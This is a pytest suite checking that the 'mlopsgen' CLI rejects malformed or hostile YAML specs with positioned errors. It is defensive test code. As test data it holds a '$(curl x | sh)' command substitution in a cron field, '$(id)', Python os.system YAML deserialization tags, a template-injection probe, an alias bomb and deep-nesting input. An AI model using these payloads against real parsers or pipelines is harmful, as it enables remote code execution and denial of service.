"""Bad specs: exit 2, one line per problem with file:line:column, no traceback, nothing written."""

from __future__ import annotations

import re
import resource
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from mlopsgen.spec.cron import cron_problem
from mlopsgen.spec.schema import load_schema
from tests.repo_paths import ROOT, CliResult

LINE = re.compile(r"^(?P<file>[^:]+):(?P<line>\d+):(?P<col>\d+): (?P<rest>.+)$")

VALID_HEAD = "version: 1\nproject:\n  name: Spam Filter\n"

# (case id, spec text, expected lines as (line, col, substring))
CASES: list[tuple[str, str, list[tuple[int, int, str]]]] = [
    (
        "unknown-key",
        VALID_HEAD + "  pyton: '3.11'\n",
        [(4, 3, "project.pyton: unknown key 'pyton' (hint: did you mean 'python'?)")],
    ),
    (
        "wrong-type",
        VALID_HEAD + "model:\n  metrics:\n    f1: {min: high}\n",
        [(6, 15, "model.metrics.f1.min: expected a number, got 'high'")],
    ),
    (
        "bad-enum",
        VALID_HEAD + "deploy:\n  target: webservce\n",
        [
            (
                5,
                11,
                "deploy.target: expected one of webservice, batch, edge, browser, none; got "
                "'webservce'"
                " (hint: did you mean 'webservice'?)",
            )
        ],
    ),
    (
        "missing-required",
        "version: 1\nproject:\n  slug: spam\n",
        [(2, 1, "project: missing required key 'name'")],
    ),
    ("missing-project", "version: 1\n", [(1, 1, "missing required key 'project'")]),
    ("yaml-syntax", VALID_HEAD + "ci:\n  platforms: [github\n", [(6, 1, "YAML syntax error")]),
    ("empty", "", [(1, 1, "the spec is empty")]),
    ("comments-only", "# nothing here\n", [(1, 1, "the spec is empty")]),
    ("top-level-list", "- version: 1\n", [(1, 1, "expected a mapping at the top level")]),
    (
        "unquoted-python",
        VALID_HEAD + "  python: 3.10\n",
        [(4, 11, "project.python: expected a string, got 3.1 (hint: quote the version")],
    ),
    (
        "duplicate-key",
        VALID_HEAD + "  name: Other\n",
        [(4, 3, "duplicate key 'name' (first defined on line 3)")],
    ),
    (
        "several-problems",
        VALID_HEAD + "ci:\n  platforms: [github, gitlub]\nmodel:\n  metrics:\n    f2: {min: 0.5}\n",
        [
            (5, 23, "ci.platforms[1]: expected one of github, gitlab, azure; got 'gitlub'"),
            (8, 5, "model.metrics.f2: unknown name 'f2'"),
        ],
    ),
    (
        "template-in-name",
        "version: 1\nproject:\n  name: '{{ 7*7 }}'\n",
        [(3, 9, "project.name: '{{ 7*7 }}' is not allowed here")],
    ),
    ("yaml11-key", VALID_HEAD + "ci:\n  on: [push]\n", [(5, 3, "unknown key 'on/yes/true'")]),
    (
        "duplicate-env",
        VALID_HEAD + "deploy:\n  environments: [{name: a}, {name: a}]\n",
        [(5, 36, "deploy.environments[1].name: duplicate environment name 'a'")],
    ),
    (
        "undeclared-secret-env",
        VALID_HEAD
        + "secrets:\n  items: [{name: TOKEN, ref: x, stages: [deploy], environments: [prod]}]\n",
        [(5, 66, "environment 'prod' is not declared in deploy.environments")],
    ),
    (
        "provider-without-settings",
        VALID_HEAD + "secrets:\n  provider: vault\n",
        [(5, 13, "provider 'vault' needs a secrets.vault section")],
    ),
    (
        "min-above-max",
        VALID_HEAD + "model:\n  metrics:\n    f1: {min: 0.9, max: 0.8}\n",
        [(6, 9, "min 0.9 is greater than max 0.8")],
    ),
    (
        "bad-date",
        VALID_HEAD + "policies:\n  waivers: [{rule: PIN-007, reason: a good reason, owner: me, "
        "expires: 2027-02-30}]\n",
        [(5, 72, "'2027-02-30' is not a calendar date")],
    ),
    (
        "mlopsgen-git-branch",
        VALID_HEAD + "ci:\n  mlopsgen:\n    source: git\n"
        "    git: https://github.com/acme/mlopsgen.git\n    commit: main\n",
        [(8, 13, "ci.mlopsgen.commit: 'main' is not allowed here (hint: the full 40-character")],
    ),
    (
        "mlopsgen-git-short-sha",
        VALID_HEAD + "ci:\n  mlopsgen: {source: git, git: 'https://github.com/acme/m.git', "
        "commit: 0123abc}\n",
        [(5, 73, "ci.mlopsgen.commit: '0123abc' is not allowed here (hint: the full 40-")],
    ),
    (
        "mlopsgen-git-missing-commit",
        VALID_HEAD + "ci:\n  mlopsgen: {source: git, git: 'https://github.com/acme/m.git'}\n",
        [(5, 3, "ci.mlopsgen: missing required key 'commit' (hint: source: git needs git")],
    ),
    (
        "mlopsgen-index-missing-url",
        VALID_HEAD + "ci:\n  mlopsgen: {source: index}\n",
        [(5, 3, "ci.mlopsgen: missing required key 'index_url' (hint: source: index needs")],
    ),
    (
        "mlopsgen-index-credentials",
        VALID_HEAD
        + "ci:\n  mlopsgen: {source: index, index_url: 'https://ci@pypi.example.com/simple'}\n",
        [(5, 40, "is not allowed here (hint: an https:// URL without credentials")],
    ),
    (
        "mlopsgen-wheel-escapes",
        VALID_HEAD
        + "ci:\n  mlopsgen: {source: wheel, wheel: ../mlopsgen-0.1.0-py3-none-any.whl}\n",
        [
            (
                5,
                36,
                "ci.mlopsgen.wheel: '../mlopsgen-0.1.0-py3-none-any.whl' is not allowed here"
                " (hint: a path inside the repository (relative, without '..')",
            )
        ],
    ),
    (
        "mlopsgen-wheel-absolute",
        VALID_HEAD
        + "ci:\n  mlopsgen: {source: wheel, wheel: /opt/mlopsgen-0.1.0-py3-none-any.whl}\n",
        [(5, 36, "(hint: a path inside the repository")],
    ),
    (
        "mlopsgen-wheel-git-ignored",
        VALID_HEAD
        + "ci:\n  mlopsgen: {source: wheel, wheel: dist/mlopsgen-0.1.0-py3-none-any.whl}\n",
        [
            (
                5,
                36,
                "so CI would never see the wheel (hint: vendor it under tools/",
            )
        ],
    ),
    (
        "mlopsgen-key-of-another-source",
        VALID_HEAD + "ci:\n  mlopsgen:\n    source: wheel\n"
        "    wheel: tools/mlopsgen-0.1.0-py3-none-any.whl\n    sha256: '" + "a" * 64 + "'\n"
        "    commit: '" + "0" * 40 + "'\n",
        [
            (
                9,
                5,
                "ci.mlopsgen.commit is read by source 'git', but the source is 'wheel' (hint: "
                "set source: git, or remove commit)",
            )
        ],
    ),
    (
        "prediction-log-outside-the-repository",
        VALID_HEAD + "monitoring:\n  prediction_log: {sink: s3, path: ../logs}\n",
        [
            (5, 26, "monitoring.prediction_log.sink: expected one of jsonl"),
            (5, 36, "monitoring.prediction_log.path: '../logs' is not allowed here"),
        ],
    ),
    (
        "live-monitoring-window-and-pushgateway",
        VALID_HEAD + "monitoring:\n  live: {window: 1w, min_records: 0, pushgateway: 'ftp://gw'}\n",
        [
            (5, 18, "monitoring.live.window: '1w' is not allowed here (hint: a count of hours"),
            (5, 35, "monitoring.live.min_records: expected a number >= 1, got 0"),
            (5, 51, "monitoring.live.pushgateway: 'ftp://gw' is not allowed here (hint: an http"),
        ],
    ),
    (
        "unknown-pack",
        VALID_HEAD + "policies:\n  packs: [nosuchpack]\n",
        [
            (
                5,
                11,
                "policies.packs[0]: unknown policy pack 'nosuchpack' (hint: one of baseline, "
                "regulated, strict; or a pack of the repository at "
                ".mlopsgen/policies/nosuchpack.yaml)",
            )
        ],
    ),
    (
        "misspelt-pack",
        VALID_HEAD + "policies:\n  packs: [baseline, strikt]\n",
        [(5, 21, "policies.packs[1]: unknown policy pack 'strikt' (hint: did you mean 'strict'?")],
    ),
    (
        "metric-task-mismatch",
        VALID_HEAD + "model:\n  metrics:\n    rmse: {max: 3}\n",
        [(6, 5, "model.metrics.rmse: metric 'rmse' does not fit model.task binary")],
    ),
    (
        "classification-metric-on-regression",
        VALID_HEAD + "data:\n  sample: energy\nmodel:\n  task: regression\n  metrics:\n"
        "    f1: {min: 0.8}\n",
        [(9, 5, "model.metrics.f1: metric 'f1' does not fit model.task regression")],
    ),
    (
        "estimator-unknown-module",
        VALID_HEAD + "model:\n  estimator:\n    class: xgbost.XGBClassifier\n",
        [(6, 12, "(hint: did you mean 'xgboost'? known modules: sklearn, xgboost")],
    ),
    (
        "estimator-unknown-sklearn-module",
        VALID_HEAD
        + "model:\n  estimator:\n    class: sklearn.ensembel.HistGradientBoostingClassifier\n",
        [(6, 12, "sklearn has no estimator module 'ensembel'")],
    ),
    (
        "browser-settings-on-another-target",
        VALID_HEAD + "deploy:\n  target: edge\n  browser: {max_bundle_kb: 100}\n",
        [
            (
                6,
                3,
                "deploy.browser is set, but deploy.target is edge (hint: set deploy.target: "
                "browser, or remove deploy.browser)",
            )
        ],
    ),
    (
        "browser-estimator-skl2onnx-cannot-convert",
        VALID_HEAD
        + "model:\n  estimator:\n    class: xgboost.XGBClassifier\n"
        + "deploy:\n  target: browser\n",
        [
            (
                6,
                12,
                "deploy.target browser exports the model to ONNX with skl2onnx, which converts "
                "scikit-learn estimators only, not 'xgboost.XGBClassifier' (hint: use a "
                "scikit-learn estimator",
            )
        ],
    ),
    (
        "browser-budget-below-one",
        VALID_HEAD + "deploy:\n  target: browser\n  browser: {max_bundle_kb: 0}\n",
        [(6, 28, "deploy.browser.max_bundle_kb: expected a number >= 1, got 0")],
    ),
    (
        "estimator-not-an-import-path",
        VALID_HEAD + "model:\n  estimator:\n    class: HistGradientBoostingClassifier\n",
        [(6, 12, "model.estimator.class")],
    ),
    (
        "algorithm-and-estimator",
        VALID_HEAD + "model:\n  algorithm: random_forest\n  estimator:\n"
        "    class: sklearn.svm.SVC\n",
        [(5, 3, "model.algorithm and model.estimator are both set")],
    ),
    (
        "regression-sample-on-a-classifier",
        VALID_HEAD + "data:\n  sample: energy\n",
        [(5, 11, "sample 'energy' has a numeric target")],
    ),
    (
        "alias-bomb",
        "version: 1\n"
        + "".join(
            f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else 'x'}]\n" for i in range(9)
        ),
        [(0, 0, "expands to more than 10,000 nodes")],
    ),
    # compute: engine kubeflow needs its section; a GPU needs an engine that has GPUs; a
    # KFP namespace is a DNS label.
    (
        "kubeflow-without-host",
        VALID_HEAD + "compute:\n  engine: kubeflow\n",
        [(5, 11, "compute.engine: engine kubeflow needs a compute.kubeflow section")],
    ),
    (
        "kubeflow-section-without-host",
        VALID_HEAD + "compute:\n  engine: kubeflow\n  kubeflow: {image: r.io/ml/x:1}\n",
        [(6, 3, "compute.kubeflow: missing required key 'host'")],
    ),
    (
        "gpu-on-local",
        VALID_HEAD + "compute:\n  resources: {gpu: 1}\n",
        [(5, 20, "compute.resources.gpu: a GPU request needs an engine that schedules GPUs")],
    ),
    (
        "kubeflow-namespace-format",
        VALID_HEAD
        + "secrets:\n  items: [{name: KFP_TOKEN, ref: kfp, stages: [train]}]\n"
        + "compute:\n  engine: kubeflow\n"
        + "  kubeflow: {host: 'https://kfp.example.com', image: r.io/ml/x:1, namespace: ML_Team}\n",
        [(8, 78, "compute.kubeflow.namespace: 'ML_Team' is not allowed here (hint: a DNS label")],
    ),
    (
        "kubeflow-memory-format",
        VALID_HEAD + "compute:\n  resources: {memory: 4GB}\n",
        [(5, 23, "compute.resources.memory: '4GB' is not allowed here (hint: e.g. \"4Gi\"")],
    ),
    (
        "kubeflow-token-not-declared",
        VALID_HEAD
        + "compute:\n  engine: kubeflow\n"
        + "  kubeflow: {host: 'https://kfp.example.com', image: r.io/ml/x:1}\n",
        [(6, 3, "engine kubeflow submits with the bearer token in the secret KFP_TOKEN")],
    ),
]


@pytest.mark.parametrize(("text", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_spec(
    tmp_path: Path,
    run_cli: Callable[..., CliResult],
    text: str,
    expected: list[tuple[int, int, str]],
) -> None:
    spec = tmp_path / "mlops.yaml"
    spec.write_text(text)
    out = tmp_path / "out"
    result = run_cli("new", str(spec), "-o", str(out))
    assert result.code == 2
    assert "Traceback" not in result.err
    assert not out.exists(), "nothing may be written for a bad spec"
    lines = [ln for ln in result.err.splitlines() if LINE.match(ln)]
    assert len(lines) == len(expected), result.err
    for got, (line, col, text_part) in zip(lines, expected, strict=True):
        match = LINE.match(got)
        assert match is not None
        assert match["file"] == str(spec)
        if line:
            assert (int(match["line"]), int(match["col"])) == (line, col), got
        assert text_part in match["rest"], got
    assert result.err.rstrip().endswith("problem" if len(expected) == 1 else "problems")


def test_validate_reports_the_same(tmp_path: Path, run_cli: Callable[..., CliResult]) -> None:
    spec = tmp_path / "mlops.yaml"
    spec.write_text(VALID_HEAD + "deploy:\n  target: webservce\n")
    result = run_cli("validate", str(spec))
    assert result.code == 2
    assert f"{spec}:5:11: deploy.target" in result.err


def test_validate_takes_several_specs(tmp_path: Path, run_cli: Callable[..., CliResult]) -> None:
    good, bad = tmp_path / "good.yaml", tmp_path / "bad.yaml"
    good.write_text(VALID_HEAD)
    bad.write_text(VALID_HEAD + "policies:\n  packs: [nosuchpack]\n")
    both = run_cli("validate", str(good), str(good))
    assert both.code == 0
    assert both.out.count(f"{good}: valid spec for 'Spam Filter'") == 2
    mixed = run_cli("validate", str(bad), str(good), str(tmp_path / "missing.yaml"))
    assert mixed.code == 2
    assert f"{bad}:5:11: policies.packs[0]: unknown policy pack 'nosuchpack'" in mixed.err
    assert f"{good}: valid spec" in mixed.out, "every spec is reported, not just the first"
    assert f"{tmp_path / 'missing.yaml'}: no such file" in mixed.err


def test_a_repository_pack_is_a_known_pack(
    tmp_path: Path, run_cli: Callable[..., CliResult]
) -> None:
    spec = tmp_path / "mlops.yaml"
    spec.write_text(VALID_HEAD + "policies:\n  packs: [team]\n")
    assert run_cli("validate", str(spec)).code == 2
    (tmp_path / ".mlopsgen" / "policies").mkdir(parents=True)
    (tmp_path / ".mlopsgen" / "policies" / "team.yaml").write_text("name: team\nextends: strict\n")
    assert run_cli("validate", str(spec)).code == 0


def test_directory_instead_of_file(tmp_path: Path, run_cli: Callable[..., CliResult]) -> None:
    (tmp_path / "mlops.yaml").write_text(VALID_HEAD)
    result = run_cli("new", str(tmp_path), "-o", str(tmp_path / "out"))
    assert result.code == 2
    assert "is a directory, expected a spec file" in result.err
    assert "did you mean" in result.err
    assert not (tmp_path / "out").exists()


def test_missing_file(tmp_path: Path, run_cli: Callable[..., CliResult]) -> None:
    result = run_cli("new", str(tmp_path / "nope.yaml"), "-o", str(tmp_path / "out"))
    assert result.code == 2
    assert "no such file" in result.err


# A tag on the description (line 4, column 16), as `description: TAG VALUE`.
TAGGED = [
    ("!!int abc", "cannot read 'abc' as !!int"),
    ("!!float abc", "cannot read 'abc' as !!float"),
    ("!!bool maybe", "cannot read 'maybe' as !!bool"),
    ("!!python/name:os.system ''", "unsupported YAML tag !!python/name:os.system"),
    ("!!python/object/apply:os.system [ls]", "unsupported YAML tag !!python/object/apply"),
    ("!!merge x", "unsupported YAML tag !!merge"),
    ("!custom x", "unsupported YAML tag !custom"),
    ("!!binary aGk=", "unsupported YAML tag !!binary"),
    ("!!timestamp nonsense", "'nonsense' is not a !!timestamp"),
    ("!!set {a}", "unsupported YAML tag !!set on a mapping"),
    ("!!str [a]", "unsupported YAML tag !!str on a list"),
    ("1" * 5000, "integer out of range"),
    ("1:" * 20_000 + "1", "integer out of range"),  # base 60 in big integers: quadratic
    ("0x" + "f" * 40, "integer out of range"),
    (".nan", "'.nan' is not a finite number"),
]


@pytest.mark.parametrize(("tagged", "message"), TAGGED, ids=[t[0][:24] for t in TAGGED])
def test_yaml_tags_are_positioned_errors(
    tmp_path: Path, run_cli: Callable[..., CliResult], tagged: str, message: str
) -> None:
    spec = tmp_path / "mlops.yaml"
    spec.write_text(VALID_HEAD + f"  description: {tagged}\n")
    result = run_cli("validate", str(spec))
    assert result.code == 2, result.err
    assert "Traceback" not in result.err
    assert f"{spec}:4:16: project.description: {message}" in result.err


def test_a_control_character_is_positioned(
    tmp_path: Path, run_cli: Callable[..., CliResult]
) -> None:
    spec = tmp_path / "mlops.yaml"
    spec.write_text("version: 1\nproject:\n  name: \u00e9t\u00e9\u0001\n")
    result = run_cli("validate", str(spec))
    assert result.code == 2
    assert f"{spec}:3:12: character U+0001 is not allowed in YAML" in result.err


def test_not_utf8_is_positioned(tmp_path: Path, run_cli: Callable[..., CliResult]) -> None:
    spec = tmp_path / "mlops.yaml"
    spec.write_bytes(b"version: 1\nproject: {name: \xff}\n")
    result = run_cli("validate", str(spec))
    assert result.code == 2
    assert f"{spec}:2:17: not UTF-8 text: byte 27 is 0xff" in result.err


def _limit_memory() -> None:  # pragma: no cover - runs in the child
    resource.setrlimit(resource.RLIMIT_AS, (768 * 1024 * 1024, 768 * 1024 * 1024))


@pytest.mark.parametrize("kind", ["huge-file", "alias-bomb", "deep-nesting"])
def test_hostile_input_is_bounded(tmp_path: Path, kind: str) -> None:
    """A 50 MB file, an alias bomb and deep nesting are refused inside a 768 MiB cap.

    In a child process: libyaml's composer recursed in C, and 100,000 ``[`` killed the
    process with a segmentation fault.
    """
    spec = tmp_path / "mlops.yaml"
    if kind == "deep-nesting":
        spec.write_text(VALID_HEAD + "  description: " + "[" * 100_000 + "\n")
    elif kind == "huge-file":
        with spec.open("w") as handle:
            handle.write(VALID_HEAD)
            line = "# " + "x" * 1022 + "\n"
            for _ in range(50 * 1024):
                handle.write(line)
    else:
        spec.write_text(
            "a: &a ['lol','lol','lol','lol','lol','lol','lol','lol','lol']\n"
            + "".join(
                f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n"
                for p, n in zip("abcdefgh", "bcdefghi", strict=True)
            )
        )
    proc = subprocess.run(
        [sys.executable, "-m", "mlopsgen", "new", str(spec), "-o", str(tmp_path / "out")],
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=_limit_memory,
        check=False,
        cwd=ROOT,
    )
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    assert not (tmp_path / "out").exists()
    expected = {
        "huge-file": ["a spec may be at most"],
        "alias-bomb": ["alias bomb"],
        # Two mappings and 62 brackets are open when the bracket in column 16 + 62 comes.
        # The libyaml that PyYAML 6.0.4 bundles has a nesting limit of its own, in a scanner
        # that reads ahead of our composer: then its positioned syntax error comes first.
        "deep-nesting": [
            ":4:78: the document is nested more than 64 levels",
            "YAML syntax error: exceeded maximum nesting depth",
        ],
    }[kind]
    assert any(message in proc.stderr for message in expected), proc.stderr
    assert f"{spec}:" in proc.stderr  # a position, whichever reader stopped it


# Cron fields: the five POSIX fields every CI platform takes, values in range. Before croniter
# checked them, any five tokens reached the monitoring workflows (GitHub refuses "99 99 * * *";
# a command substitution in the minute field landed in the generated YAML).
CRON_CASES: list[tuple[str, str, str, str]] = [
    (
        "out-of-range",
        "monitoring:\n  drift: {schedule: '99 99 * * *'}\n",
        "monitoring.drift.schedule: '99 99 * * *': the minute field '99' is out of range",
        "minute values are 0-59",
    ),
    (
        "shell-in-fields",
        "monitoring:\n  drift: {schedule: '$(curl x | sh) a b c d'}\n",
        "monitoring.drift.schedule: '$(curl x | sh) a b c d' has 8 field(s)",
        "five fields: minute hour day-of-month month day-of-week",
    ),
    (
        "shell-as-five-tokens",
        "deploy:\n  batch: {schedule: '$(id) a b c d'}\n",
        "deploy.batch.schedule: '$(id) a b c d': the minute field '$(id)' is not cron syntax",
        "use numbers (0-59)",
    ),
    (
        "seconds-field",
        "deploy:\n  batch: {schedule: '0 0 3 * * *'}\n",
        "deploy.batch.schedule: '0 0 3 * * *' has 6 field(s) (a seconds field?)",
        "five fields",
    ),
    (
        "reboot",
        "monitoring:\n  drift: {schedule: '@reboot'}\n",
        "cron macros (@reboot) are not accepted",
        "five fields",
    ),
    (
        "quartz-last-day",
        "monitoring:\n  drift: {schedule: '0 3 L * *'}\n",
        "the day-of-month field 'L' is not cron syntax",
        "use numbers (1-31)",
    ),
]


@pytest.mark.parametrize(
    ("text", "message", "hint"), [c[1:] for c in CRON_CASES], ids=[c[0] for c in CRON_CASES]
)
def test_bad_cron_is_a_spec_error(
    tmp_path: Path, run_cli: Callable[..., CliResult], text: str, message: str, hint: str
) -> None:
    spec = tmp_path / "mlops.yaml"
    spec.write_text(VALID_HEAD + text)
    result = run_cli("validate", str(spec))
    assert result.code == 2, result.err
    assert "Traceback" not in result.err
    lines = [ln for ln in result.err.splitlines() if LINE.match(ln)]
    assert len(lines) == 1, result.err
    match = LINE.match(lines[0])
    assert match is not None
    assert (match["line"], match["col"]) == ("5", "21"), lines[0]
    said, _, hinted = match["rest"].partition(" (hint: ")
    assert message in said, lines[0]
    assert hint in hinted, lines[0]


@pytest.mark.parametrize(
    "cron", ["0 3 * * *", "*/15 1-5 * * *", "0 */6 1,15 JAN-JUN MON-FRI", "30 4 * * 1", "0 0 1 1 0"]
)
def test_good_cron_is_valid(tmp_path: Path, run_cli: Callable[..., CliResult], cron: str) -> None:
    spec = tmp_path / "mlops.yaml"
    spec.write_text(VALID_HEAD + f"monitoring:\n  drift: {{schedule: '{cron}'}}\n")
    result = run_cli("validate", str(spec))
    assert result.code == 0, result.err


def test_cron_defaults_are_valid() -> None:
    schema = load_schema()
    defaults = [
        schema["properties"]["deploy"]["properties"]["batch"]["properties"]["schedule"]["default"],
        schema["properties"]["monitoring"]["properties"]["drift"]["properties"]["schedule"][
            "default"
        ],
    ]
    assert [cron_problem(d) for d in defaults] == [None, None]


def test_a_key_with_a_control_character_stays_on_one_line(
    tmp_path: Path, run_cli: Callable[..., CliResult]
) -> None:
    """Found by the fuzz test: a key "\\x1e" (a line separator to str.splitlines) split the
    diagnostic in two; the path now shows such a key quoted and escaped."""
    spec = tmp_path / "mlops.yaml"
    spec.write_text('version: 1\nproject:\n  name: X\n  "\\x1E": 0\n')
    result = run_cli("validate", str(spec))
    assert result.code == 2
    (line,) = [x for x in result.err.splitlines() if x.startswith(f"{spec}:")]
    assert line.startswith(f"{spec}:4:3: project['\\x1e']: unknown key")
